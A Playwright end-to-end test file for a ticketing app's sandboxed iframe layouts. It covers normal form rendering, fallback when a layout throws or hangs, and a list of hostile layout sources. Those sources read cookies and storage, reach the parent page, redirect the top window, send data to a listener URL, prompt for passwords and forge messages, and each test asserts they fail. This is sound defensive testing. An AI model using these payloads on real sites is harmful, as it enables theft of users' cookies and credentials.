import type { Page } from '@playwright/test';
import { expectAccessible } from './accessible';
import { getStuck, publishSpending } from './desk';
import { attacking, taskOf, thief, withLayouts } from './layouts';
import { expect as soon, signUp, Somebody, test as base } from './people';

/** Each frame is a page more to load, and silence takes its time to be noticed. */
const expect = soon.configure({ timeout: 30_000 });

/** One company for all of them; each has definitions of its own. */
const test = base.extend<{ somebody: Somebody }, { company: Somebody }>({
  company: [
    async ({ browser }, use) => {
      const context = await browser.newContext();
      await use(await signUp(new Somebody(await context.newPage(), context)));
      await context.close();
    },
    { scope: 'worker' },
  ],
  somebody: async ({ company: { context } }, use) => {
    const page = await context.newPage();
    await use(new Somebody(page, context));
    await page.close();
  },
});

test.describe.configure({ timeout: 180_000 });

const WORKING = `
import { Checkbox, Section, TextInput, type LayoutProps } from 'ticketflower';

export default function Answer({ value, context, language }: LayoutProps) {
  const length: number = (value as { answer?: string } | undefined)?.answer?.length ?? 0;
  return (
    <Section title="Your answer">
      <p>They asked: {(context as { ticket?: { answer: string } })?.ticket?.answer} ({language})</p>
      <TextInput name="answer" label="Say it here" lines={3} />
      <p>{length} characters</p>
      <Checkbox name="sure" />
    </Section>
  );
}
`;

const SHOWING = `
export default function Answered({ value }) {
  return <p>The answer was <strong>{value.answer.toUpperCase()}</strong></p>;
}
`;

const LIMIT = `
import { NumberInput } from 'ticketflower';

export default function Limit() {
  return <NumberInput name="limit" label="Limit in euros" />;
}
`;

const SPENT = `
export default function Spent({ value }) {
  return <p>Up to {value.limit} euros</p>;
}
`;

const frame = (page: Page) => page.frameLocator('iframe');
const PLAIN = 'This is shown in the plain way';

test.describe('a layout', () => {
  test('draws the form of a task and what came of it, and its value is what is handed in', async ({ somebody }) => {
    const { page } = somebody;
    const task = await taskOf(somebody, await withLayouts(somebody, { task: { editLayout: WORKING, displayLayout: SHOWING } }));
    await page.goto(`/tasks/${task.id}`);
    await expect(frame(page).getByText('They asked: A question (en)')).toBeVisible();
    await expect(page.locator('iframe')).toHaveAttribute('sandbox', 'allow-scripts');
    await expectAccessible(page);

    await page.getByRole('button', { name: 'Complete' }).click();
    const summary = page.getByRole('alert', { name: /put right/ });
    await expect(summary).toContainText('Answer: This is needed.');
    await expect(frame(page).getByText('This is needed.')).toBeVisible();
    await summary.getByRole('button').click();
    await expect(frame(page).getByLabel('Say it here')).toBeFocused();
    await page.keyboard.type('forty-two');
    await expect(frame(page).getByText('9 characters')).toBeVisible();
    await expect(summary).toBeHidden();
    await frame(page).getByLabel('I am sure').check();
    await expect(page.getByText(/^Saved \d/)).toBeVisible();

    await page.reload();
    await expect(frame(page).getByLabel('Say it here')).toHaveValue('forty-two');
    await page.getByRole('button', { name: 'Complete' }).click();
    await expect(frame(page).getByText('The answer was FORTY-TWO')).toBeVisible();
    const { task: done } = await somebody.api('GET', `/tasks/${task.id}`);
    expect(done.output).toEqual({ answer: 'forty-two', sure: true });
  });

  test('draws the form of a ticket and what was asked', async ({ somebody }) => {
    const { page } = somebody;
    const type = await withLayouts(somebody, { ticket: { editLayout: WORKING, displayLayout: SHOWING } });
    await page.goto(`/submit/${type}`);
    await frame(page).getByLabel('Say it here').fill('a desk');
    await expect(page.getByText(/^Saved \d/)).toBeVisible();
    await page.getByRole('button', { name: 'Submit', exact: true }).click();
    await expect(frame(page).getByText('The answer was A DESK')).toBeVisible();
    await expectAccessible(page);
  });

  test('draws the data of a workflow, and its value is what is corrected', async ({ somebody }) => {
    const { page } = somebody;
    const { error, ticket } = await getStuck(somebody, await publishSpending(somebody, { editLayout: LIMIT, displayLayout: SPENT }));
    await page.goto(`/tickets/${ticket}`);
    await expect(frame(page).getByText('Up to 100 euros')).toBeVisible();

    await page.goto(`/ticket-errors/${error}`);
    await page.getByRole('button', { name: 'Edit the data' }).click();
    await frame(page).getByLabel('Limit in euros').fill('');
    await page.getByRole('button', { name: 'Save and try again' }).click();
    await expect(frame(page).getByText('Write a number, such as 12.5')).toBeVisible();
    await expectAccessible(page);
    await frame(page).getByLabel('Limit in euros').fill('1000');
    await page.getByRole('button', { name: 'Save and try again' }).click();
    await expect(page.getByText('The data is corrected, and it worked')).toBeVisible();
    const { ticket: corrected } = await somebody.api('GET', `/tickets/${ticket}`);
    expect(corrected.workflowData).toEqual({ limit: 1000 });
  });

  test.describe('that fails leaves the plain form with what was typed', () => {
    async function typed(somebody: Somebody, editLayout: string) {
      const { page } = somebody;
      await page.goto(`/submit/${await withLayouts(somebody, { ticket: { editLayout } })}`);
      await frame(page).getByLabel('Answer').fill('a desk');
      await expect(page.getByText(PLAIN)).toBeVisible();
      await expect(page.locator('iframe')).toHaveCount(0);
      await expect(page.getByLabel('Answer')).toHaveValue('a desk');
      await expectAccessible(page);
      await page.getByRole('button', { name: 'Submit', exact: true }).click();
      await expect(page).toHaveURL(/\/tickets\//);
    }

    test('when it throws', async ({ somebody }) =>
      typed(
        somebody,
        `import { TextInput } from 'ticketflower';
         export default function Throws({ value }) {
           if (value?.answer === 'a desk') throw new Error('no desks');
           return <TextInput name="answer" />;
         }`
      ));

    test('when it hangs', async ({ somebody }) =>
      typed(
        somebody,
        `import { TextInput } from 'ticketflower';
         export default function Hangs({ value }) {
           if (value?.answer === 'a desk') setTimeout(() => { for (;;); }, 200);
           return <TextInput name="answer" />;
         }`
      ));

    test('when it talks without end', async ({ somebody }) =>
      typed(
        somebody,
        `import { TextInput } from 'ticketflower';
         export default function Talks({ value, onChange }) {
           if (value?.answer === 'a desk') setTimeout(() => { for (let i = 0; i < 1000; i++) onChange(value); }, 200);
           return <TextInput name="answer" />;
         }`
      ));
  });

  test('that can not even begin leaves the plain form', async ({ somebody }) => {
    const { page } = somebody;
    for (const source of [
      'export default function ( { return <p',
      'const nothing = 1;',
      `import fs from 'node:fs'; export default () => fs;`,
      `throw new Error('at once')`,
      `}); throw new Error('outside'); (function () {`,
    ]) {
      await test.step(source, async () => {
        await page.goto(`/submit/${await withLayouts(somebody, { ticket: { editLayout: source } })}`);
        await expect(page.getByText(PLAIN)).toBeVisible();
        await expect(page.locator('iframe')).toHaveCount(0);
        await expect(page.getByLabel('Answer')).toBeVisible();
      });
    }
  });
});

type Attack = {
  name: string;
  /** @param url where the thief listens */
  source: (url: string) => string;
  /** Whether the frame is gone afterwards, and the plain form there. */
  isRemoved?: boolean;
};

const ATTACKS: Attack[] = [
  {
    name: 'reading cookies and storage',
    source: () => `return each({
      cookie: () => document.cookie,
      setting: () => { document.cookie = 'a=b'; return document.cookie; },
      local: () => localStorage,
      session: () => sessionStorage,
      database: () => new Promise((yes, no) => { const asked = indexedDB.open('x'); asked.onsuccess = yes; asked.onerror = no; }),
      caches: () => caches.keys().then(() => true),
      cookies: () => globalThis.cookieStore?.getAll().then(() => true),
    });`,
  },
  {
    name: 'reaching the page around it',
    source: () => `return each({
      parent: () => parent.document,
      top: () => top.document.body,
      storage: () => parent.localStorage,
      address: () => parent.location.href,
      element: () => window.frameElement,
      opener: () => window.opener,
      fetch: () => parent.fetch('/api/v1/me'),
      domain: () => { document.domain = location.hostname; return parent.document; },
    });`,
  },
  {
    name: 'navigating the page around it',
    source: (url) => `
      const link = Object.assign(document.createElement('a'), { href: '${url}/link', target: '_top' });
      document.body.append(link);
      const outcome = await each({
        location: () => { top.location.href = '${url}/top'; },
        replace: () => { top.location.replace('${url}/replace'); },
        link: () => { link.click(); },
        window: () => open('${url}/open', '_top'),
        history: () => { top.history.back(); },
      });
      await pause(500);
      return outcome;`,
  },
  {
    name: 'asking the API and others',
    source: (url) => `return each({
      own: () => fetch('/api/v1/me'),
      other: () => fetch('${url}/fetch', { mode: 'no-cors' }),
      request: () => new Promise((yes, no) => { const asked = new XMLHttpRequest(); asked.open('GET', '${url}/xhr'); asked.onload = yes; asked.onerror = no; asked.send(); }),
      socket: () => new Promise((yes, no) => { const socket = new WebSocket('${url}'.replace('http', 'ws')); socket.onopen = yes; socket.onerror = no; }),
      events: () => new Promise((yes, no) => { const events = new EventSource('${url}/events'); events.onopen = yes; events.onerror = no; }),
      beacon: () => { navigator.sendBeacon('${url}/beacon', 'data'); },
      image: () => new Promise((yes, no) => Object.assign(new Image(), { onload: yes, onerror: no, src: '${url}/image.png' })),
      script: () => new Promise((yes, no) => document.head.append(Object.assign(document.createElement('script'), { onload: yes, onerror: no, src: '${url}/script.js' }))),
      ours: () => new Promise((yes, no) => document.head.append(Object.assign(document.createElement('script'), { onload: yes, onerror: no, src: '/openapi.json' }))),
      style: () => new Promise((yes, no) => document.head.append(Object.assign(document.createElement('link'), { onload: yes, onerror: no, rel: 'stylesheet', href: '${url}/style.css' }))),
      background: () => { document.body.style.backgroundImage = 'url(${url}/background.png)'; },
      font: () => new FontFace('x', 'url(${url}/font.woff)').load(),
      import: () => import('${url}/module.js'),
      prefetch: () => { document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${url}/prefetch' })); },
      media: () => new Promise((yes, no) => Object.assign(new Audio(), { oncanplay: yes, onerror: no, src: '${url}/audio.mp3' })),
    });`,
  },
  {
    name: 'submitting a form',
    source: (url) => `
      const form = Object.assign(document.createElement('form'), { action: '${url}/form', method: 'post', target: '_self' });
      const blank = Object.assign(document.createElement('form'), { action: '${url}/blank', target: '_blank' });
      document.body.append(form, blank);
      const outcome = await each({ submit: () => form.submit(), request: () => form.requestSubmit(), blank: () => blank.submit() });
      await pause(500);
      return outcome;`,
  },
  {
    name: 'opening windows and asking the reader',
    source: (url) => `
      const link = Object.assign(document.createElement('a'), { href: '${url}/link', target: '_blank', rel: 'opener' });
      const download = Object.assign(document.createElement('a'), { href: 'data:text/plain,x', download: 'x.exe' });
      document.body.append(link, download);
      return each({
        popup: () => open('${url}/popup'),
        blank: () => open('about:blank'),
        link: () => { link.click(); },
        download: () => { download.click(); },
        alert: () => { alert('Log in again'); },
        prompt: () => prompt('Your password?'),
        fullscreen: () => document.body.requestFullscreen().then(() => true),
        clipboard: () => navigator.clipboard.readText().then(() => true),
        place: () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
      });`,
  },
  {
    name: 'starting workers and frames of its own',
    source: (url) => `
      const script = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
      const answers = (worker) => new Promise((yes, no) => Object.assign(worker, { onmessage: yes, onerror: no }));
      const framed = (change) => new Promise((yes) => {
        addEventListener('message', ({ data }) => data === 'from within' && yes(true));
        document.body.append(Object.assign(document.createElement('iframe'), change));
      });
      return each({
        worker: () => answers(new Worker(script)),
        data: () => answers(new Worker('data:text/javascript,postMessage(1)')),
        shared: () => new Promise((yes, no) => { const shared = new SharedWorker(script); shared.port.onmessage = yes; shared.onerror = no; }),
        service: () => navigator.serviceWorker.register('/openapi.json').then(() => true),
        frame: () => framed({ src: '${url}/frame' }),
        own: () => framed({ src: '/api/v1/me' }),
        evaluated: () => Function('return 1')(),
      });`,
  },
  {
    name: 'speaking out of turn',
    source: () => `
      const original = MessagePort.prototype.postMessage;
      const port = await new Promise((found) => {
        MessagePort.prototype.postMessage = function (...said) { found(this); return original.apply(this, said); };
      });
      const say = (message) => original.call(port, message);
      const huge = 'x'.repeat(3_000_000);
      [undefined, null, 1, {}, [], '', '{', '[]', 'null', '{"type":"change","value":1,"more":2}', '{"type":"navigate","to":"/"}',
       '{"type":"height","pixels":"9"}', '{"type":"ready","__proto__":{"a":1}}', '{"type":"height","pixels":1e9}', '{"type":"pong","number":-1}',
       { type: 'change', value: { answer: 'forged' } }, JSON.stringify({ type: 'change', value: { answer: huge } })].forEach(say);
      ['ticketflower-layout', { type: 'change', value: 1 }, huge].forEach((message) => {
        parent.postMessage(message, '*', [new MessageChannel().port1]);
        for (let i = 0; i < parent.length; i++) parent.frames[i].postMessage(message, '*', [new MessageChannel().port1]);
      });
      setTimeout(() => say('{"type":"height","pixels":300}'), 2_000);
      return 'messages got nowhere';`,
  },
  { name: 'running for ever', source: () => 'for (;;);', isRemoved: true },
  { name: 'leaving with what it knows', source: (url) => `location.href = '${url}/?data=secret'; await pause(9000);`, isRemoved: true },
  {
    name: 'leaving by itself after a while',
    source: (url) => `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${url}/?data=secret' })); await pause(9000);`,
    isRemoved: true,
  },
  { name: 'leaving to the API', source: () => `location.href = '/api/v1/me'; await pause(9000);`, isRemoved: true },
];

test.describe('a layout gets nowhere by', () => {
  for (const { name, source, isRemoved } of ATTACKS) {
    test(name, async ({ somebody }) => {
      const { page, context } = somebody;
      const listener = await thief();
      const type = await withLayouts(somebody, { ticket: { editLayout: attacking(source(listener.url)) } });
      const dialogs: string[] = [];
      page.on('dialog', (dialog) => (dialogs.push(dialog.message()), dialog.dismiss()));
      const windows = context.pages().length;
      await page.goto(`/submit/${type}`);

      if (isRemoved) {
        await expect(page.getByText(PLAIN)).toBeVisible();
        await expect(page.locator('iframe')).toHaveCount(0);
        await page.getByLabel('Answer').fill('still here');
      } else {
        const outcome = frame(page).getByText(/^Outcome: /);
        await expect(outcome).toContainText('got nowhere');
        await expect(outcome).not.toContainText('WORKED');
        expect((await page.locator('iframe').boundingBox())!.height).toBeLessThanOrEqual(6_000);
        /* The browser takes a click on what is below a frame of thousands of pixels for one into the frame. */
        await expect.poll(async () => (await page.locator('iframe').boundingBox())!.height).toBeLessThan(1_000);
        await frame(page).getByLabel('Answer').fill('still here');
      }
      await expect(page).toHaveURL(new RegExp(`/submit/${type}$`));
      expect(context.pages()).toHaveLength(windows);
      expect(dialogs).toEqual([]);
      expect(listener.heard).toEqual([]);
      listener.leave();

      await page.getByRole('button', { name: 'Submit', exact: true }).click();
      await expect(page).toHaveURL(/\/tickets\//);
      const { ticket } = await somebody.api('GET', `/tickets/${/tickets\/([^?]+)/.exec(page.url())![1]}`);
      expect(ticket.data).toEqual({ answer: 'still here' });
    });
  }
});
